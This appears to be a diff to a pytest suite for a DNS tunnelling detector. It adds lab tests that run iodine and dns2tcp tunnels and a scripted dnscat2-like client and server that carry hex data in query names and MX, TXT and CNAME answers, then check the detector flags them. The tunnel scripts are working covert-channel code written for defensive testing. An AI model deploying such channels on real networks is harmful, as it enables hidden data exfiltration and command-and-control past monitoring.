@@ -7,6 +7,9 @@
   NULL (raw), TXT (Base64), CNAME (Base32), MX (Base64u), A (Base32).
 * dns2tcp (TXT and KEY requests) carrying random bytes, and carrying zeros: uncompressed data
   spells low-entropy names (``grkzgrkz...``) that only their length and freshness give away.
+* a scripted dnscat2-like client (hex session id, sequence and data in the name; MX, TXT and
+  CNAME answers with hex data from a dnslib server) asking through the relay, each name first
+  with the ``corp.local`` search suffix appended, as a stub with a search list does;
 * a slow exfiltration of about 1 KB per hour (wire messages written as a capture: an hour
   cannot pass in a test).
 tcpdump in each client namespace writes the pcap the analyzer imports.
@@ -58,7 +61,7 @@ def _wait_addr(ns: Any, prefix: str, proc: Any, seconds: float = 30) -> None:
             return
         assert proc.poll() is None, proc.output()
         time.sleep(0.1)
-    raise AssertionError(f"iodine got no tunnel address: {proc.output()}")
+    raise AssertionError(f"no tunnel address on dns0 in {ns.name}: {proc.output()}")
 
 
 def _end(proc: Any) -> None:
@@ -75,6 +78,7 @@ def _iodine(lab: Lab, out: Path) -> dict[str, Path]:
     served = lab.spawn(lab.server_ns, ["iodined", "-f", "-c", "-P", "dnstrail-lab", "-l",
                                        SERVER, "-p", "53", "-d", "dns0", "10.214.0.1/27",
                                        "t.tunnel-lab.com"])
+    _wait_addr(lab.server_ns, "10.214.0.1", served)
     sink = lab.tcp_listener(8999, addrs=["10.214.0.1"], sink=True, max_seconds=300)
     try:
         for qtype, enc in IODINE:
@@ -135,6 +139,83 @@ def _dns2tcp(lab: Lab, out: Path) -> dict[str, Path]:
     return files
 
 
+#: A dnscat2-like server: every name under argv[2] answered with hex data in the asked type
+#: (MX, TXT or CNAME), NXDOMAIN elsewhere (bounded: 300 s).
+_C2_SERVER = r"""
+import os, socket, sys, time
+from dnslib import CNAME, MX, QTYPE, RCODE, RR, TXT, DNSRecord
+addr, zone = sys.argv[1], sys.argv[2]
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind((addr, 53))
+s.settimeout(0.5)
+print("ready", flush=True)
+end = time.monotonic() + 300
+while time.monotonic() < end:
+    try:
+        data, peer = s.recvfrom(4096)
+    except socket.timeout:
+        continue
+    q = DNSRecord.parse(data)
+    r = q.reply()
+    name = str(q.q.qname)
+    if not name.rstrip(".").endswith(zone):
+        r.header.rcode = RCODE.NXDOMAIN
+    else:
+        blob = os.urandom(24).hex()
+        t = QTYPE[q.q.qtype]
+        rd = (MX(f"{blob}.{zone}", 10) if t == "MX" else CNAME(f"{blob}.{zone}")
+              if t == "CNAME" else TXT(blob + os.urandom(40).hex()))
+        r.add_answer(RR(q.q.qname, q.q.qtype, rdata=rd, ttl=0))
+    s.sendto(r.pack(), peer)
+"""
+
+#: The dnscat2-like client: 30 messages through the resolver at argv[1], each name tried
+#: first with the search suffix (NXDOMAIN), then as it is.
+_C2_CLIENT = r"""
+import os, socket, sys, time
+from dnslib import DNSRecord
+server, zone = sys.argv[1], sys.argv[2]
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(1.0)
+session = os.urandom(2).hex()
+for seq in range(30):
+    name = f"{session}{seq:04x}{os.urandom(14).hex()}.{zone}"
+    qtype = ("MX", "TXT", "CNAME")[seq % 3]
+    for ask in (name + ".corp.local", name):
+        s.sendto(DNSRecord.question(ask, qtype).pack(), (server, 53))
+        try:
+            s.recvfrom(4096)
+        except socket.timeout:
+            pass
+    time.sleep(0.1)
+"""
+
+
+def _c2(lab: Lab, out: Path) -> dict[str, Path]:
+    server = lab.spawn(lab.server_ns, [sys.executable, "-c", _C2_SERVER, SERVER,
+                                       "c2.tunnel-lab.org"])
+    ns = lab.client_ns(["127.0.0.1"], timeout=1, attempts=1)
+    relay = lab.spawn(ns, ["dnsmasq", "-k", "-C", "/dev/null", "--no-resolv", "--no-hosts",
+                           "--listen-address=127.0.0.1", "--bind-interfaces", "-p", "53",
+                           "--cache-size=0", f"--server=/tunnel-lab.org/{SERVER}",
+                           "--address=/corp.local/", "-u", "root"])
+    try:
+        deadline = time.monotonic() + 10
+        while "ready" not in server.output():
+            assert server.poll() is None and time.monotonic() < deadline, server.output()
+            time.sleep(0.05)
+        path = out / "c2.pcap"
+        dump = _tcpdump(lab, ns, path)
+        r = lab.run(ns, [sys.executable, "-c", _C2_CLIENT, "127.0.0.1", "c2.tunnel-lab.org"],
+                    timeout=60)
+        assert r.returncode == 0, r.stderr
+        _stop(dump)
+    finally:
+        _end(relay)
+        _end(server)
+    return {"c2": path}
+
+
 @pytest.fixture(scope="module")
 def pcaps(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Path]]:
     require_lab()
@@ -146,7 +227,8 @@ def pcaps(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Path]]
     out = tmp_path_factory.mktemp("tunnels")
     with Lab() as lab:
         yield {**{f"iodine-{k}": v for k, v in _iodine(lab, out).items()},
-               **{f"dns2tcp-{k}": v for k, v in _dns2tcp(lab, out).items()}}
+               **{f"dns2tcp-{k}": v for k, v in _dns2tcp(lab, out).items()},
+               **_c2(lab, out)}
 
 
 def _top(findings: list[Finding]) -> list[Finding]:
@@ -185,6 +267,26 @@ def test_dns2tcp(pcaps: dict[str, Path], tmp_path: Path, qtype: str, data: str) 
         assert f.metrics["entropy_bits_per_char"] < 3.5
         assert "long_names" in f.metrics["fired"]
         assert "low-entropy" in f.explanation
+
+
+@pytest.mark.lab
+def test_dnscat2_like_client_with_a_search_suffix(pcaps: dict[str, Path],
+                                                  tmp_path: Path) -> None:
+    cap = load(pcaps["c2"], work_dir=tmp_path)
+    tx = cap.transactions
+    assert tx["qname"].str.endswith(".c2.tunnel-lab.org.corp.local").sum() == 30
+    hits = _top(find(cap))
+    by_client = {f.client: f for f in hits}
+    assert {f.registered_domain for f in hits} == {"tunnel-lab.org"}
+    client = by_client["127.0.0.1"]  # the leg that carries the suffixed tries
+    assert client.rank >= severity_rank("medium")
+    assert client.metrics["search_suffixes"] == ["corp.local"]
+    assert client.metrics["queries"] == 30  # a suffixed try and the bare name: one query
+    assert set(client.metrics["answer_bytes_by_type"]) == {"MX", "TXT", "CNAME"}
+    assert "timer" not in client.explanation or client.metrics["cadence_cv"] <= 0.3
+    # the relay's leg to the tunnel server has only the bare names
+    relay = [f for c, f in by_client.items() if c != "127.0.0.1"]
+    assert relay and relay[0].rank >= severity_rank("medium")
 
 
 def test_slow_exfiltration_of_a_kilobyte_an_hour(tmp_path: Path) -> None:
